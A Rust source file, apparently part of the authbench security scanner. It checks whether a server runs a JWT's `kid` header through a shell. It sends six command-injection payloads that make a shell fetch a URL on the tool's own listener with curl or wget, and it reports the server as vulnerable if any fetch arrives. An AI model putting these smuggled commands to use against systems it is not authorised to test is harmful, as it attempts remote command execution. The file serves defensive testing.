//! Is the `kid` run through a shell? Code that finds the key with a
//! command (`cat keys/$kid`) executes whatever the token names — jwt_tool's
//! kid command-injection payloads. Each payload here asks a shell to fetch a
//! URL on the run's out-of-band listener with `curl` or `wget`; any request
//! that arrives means the `kid` was executed. Nothing else is run: a
//! vulnerable target fetches one harmless URL and stops.

use std::time::Duration;

use authbench_scenarios::Case;
use authbench_scenarios::case::{Credential, JwtCredential, JwtMutation, UrlSelector};

use crate::methods::{Method, Shared, request_for};
use crate::verdict::{Verdict, observe};

/// A shell needs a moment to start a process that connects.
const LATE_FETCH: Duration = Duration::from_secs(2);

/// The payloads: (name, the `kid` around `{url}`), in the shell syntaxes
/// that splice a command into a string.
const PAYLOADS: &[(&str, &str)] = &[
    ("dollar", "$(curl -s {url})"),
    ("backtick", "`curl -s {url}`"),
    ("pipe", "authbench|curl -s {url}"),
    ("semicolon", "authbench;curl -s {url};"),
    ("and", "authbench && wget -q -O- {url}"),
    ("newline", "authbench\ncurl -s {url}"),
];

pub(super) async fn kid_not_executed(shared: &Shared, case: &Case) -> Verdict {
    let expected =
        "no kid is executed as a shell command (no payload's fetch reaches the listener)"
            .to_owned();
    let Some(callback) = shared.forge.callback() else {
        return Verdict::skip(
            "the target is not on loopback and the profile has no [callback]: authbench cannot observe a command run",
        );
    };
    if let Err(why) = shared.control(Method::Jwt, None).await {
        return Verdict::error(expected, format!("the positive control failed: {why}"));
    }
    let mut sent = 0;
    let mut broke: Option<(String, u16)> = None;
    for (name, template) in PAYLOADS {
        let url = callback.url(&format!("cmd/{name}"));
        let kid = template.replace("{url}", url.as_str());
        // The empty-key HS256 token reaches a key lookup whatever the
        // resource's algorithm; the validly signed one (with a key) too.
        for mutation in [Some(JwtMutation::Hs256EmptyKey), None] {
            let mut header = toml::Table::new();
            header.insert("kid".to_owned(), toml::Value::String(kid.clone()));
            let credential =
                Credential::Jwt(JwtCredential { header, mutation, ..Default::default() });
            let request =
                match request_for(shared, Method::Jwt, &credential, None, UrlSelector::Url, None) {
                    Ok((request, _)) => request,
                    Err(v) if v.outcome == authbench_reports::Outcome::Skip => continue,
                    Err(v) => return v,
                };
            // Whether the token is served is not this case's question: a
            // resource with one key may ignore kid, and the empty key has
            // its own case. Only the listener judges.
            // A 5xx is kept for later: a command that ran may well have
            // broken the lookup after it.
            match shared.client.send(&request).await {
                Ok(r) if r.status >= 500 => {
                    broke.get_or_insert((
                        format!("the `{name}` payload: {}", observe(&r)),
                        r.status,
                    ));
                    sent += 1;
                }
                Ok(_) => sent += 1,
                Err(e) => return Verdict::unanswered(&expected, &e),
            }
        }
    }
    let hits = callback.wait("cmd/", LATE_FETCH).await;
    if let Some(first) = hits.first() {
        return Verdict::unmet(
            case.severity,
            expected,
            format!("{} request(s) reached the listener: {first}", hits.len()),
            format!(
                "the kid is run by a shell (the `{}` payload fetched its URL): anyone can execute commands on the server",
                first.name.trim_start_matches("cmd/")
            ),
        );
    }
    if let Some((observed, status)) = broke {
        return Verdict::server_error(expected, observed, status);
    }
    Verdict::pass(
        expected,
        format!(
            "{sent} tokens with shell payloads in kid sent; nothing reached the listener within {} s",
            LATE_FETCH.as_secs()
        ),
    )
}
